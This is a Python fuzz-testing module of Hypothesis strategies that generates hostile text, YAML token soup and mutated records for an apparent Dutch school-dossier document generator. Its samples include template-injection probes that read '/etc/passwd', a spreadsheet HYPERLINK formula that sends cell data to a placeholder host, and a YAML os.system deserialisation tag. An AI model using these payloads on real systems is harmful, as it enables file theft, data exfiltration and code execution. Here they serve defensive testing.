"""Generated input: hostile text, YAML-ish token soup, mutated dossiers."""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

# Characters that broke or could break something: XML, Jinja/docxtpl, YAML, spreadsheets, bidi.
TRICKY = (
    "<>&\"'{}%#_=+-@|\\/:;,.!?*[]`~$^()\t\n\r\x00\x01\x08\x0b\x0c\x1b\x1f\x7f"
    "\u0085\u00a0\u200b\u200e\u202e\u2028\ufeff\ufffd\ufffe\uffff\U0001f600éëïüĳ"
)
hostile_text = st.text(
    alphabet=st.one_of(st.sampled_from(TRICKY), st.characters(codec="utf-8")), max_size=80
)
TEMPLATE_SNIPPETS = st.sampled_from(
    [
        "{{ 7*7 }}",
        "{_{ x }_}",
        "{%p if x %}",
        "{{ ''.__class__ }}",
        "{% include '/etc/passwd' %}",
        '=HYPERLINK("http://x/?"&A1)',
        "<w:t>x</w:t>",
        "]]><!--",
        "&amp;&#0;",
        "\x00",
        "x" * 300,
    ]
)
text_values = st.one_of(hostile_text, TEMPLATE_SNIPPETS, st.just(""))

YAML_TOKENS = st.sampled_from(
    [
        "leerling:", "overgang:", "id: po-vo", "voornamen:", " ", "  ", "\n", "\n  ", "- ",
        ": ", "&a ", "*a", "&b [*a, *a]", "!!binary ", "!!python/object:os.system ", "!x ",
        "? ", "[", "]", "{", "}", ",", "'", '"', '"\\x01"', '"\\uFFFE"', "|", ">", "#",
        "---\n", "...\n", "<<: ", "9" * 60, "1e999", ".nan", "~", "null", "2027-13-45",
        "%YAML 1.1\n", "\t", "\ufeff", "é", "\\", "@", "`",
    ]
)  # fmt: skip
yaml_soup = st.lists(YAML_TOKENS, max_size=60).map("".join)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**60), max_value=10**60),
    st.floats(allow_nan=True, allow_infinity=True),
    text_values,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(text_values, children, max_size=4)
    ),
    max_leaves=12,
)


def _paths(data: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(data, dict):
        for key, value in data.items():
            found.extend(_paths(value, (*prefix, key)))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            found.extend(_paths(value, (*prefix, index)))
    return found


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], text_only: bool = False) -> dict[str, Any]:
    """``base`` with a few values replaced (by hostile text, or by anything)."""
    data = copy.deepcopy(base)
    paths = _paths(data)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        path = draw(st.sampled_from(paths))
        parent = data
        try:
            for step in path[:-1]:
                parent = parent[step]
            old = parent[path[-1]]
        except (KeyError, IndexError, TypeError):
            continue
        if text_only and not isinstance(old, str):
            continue
        parent[path[-1]] = draw(text_values if text_only else json_values)
    return data
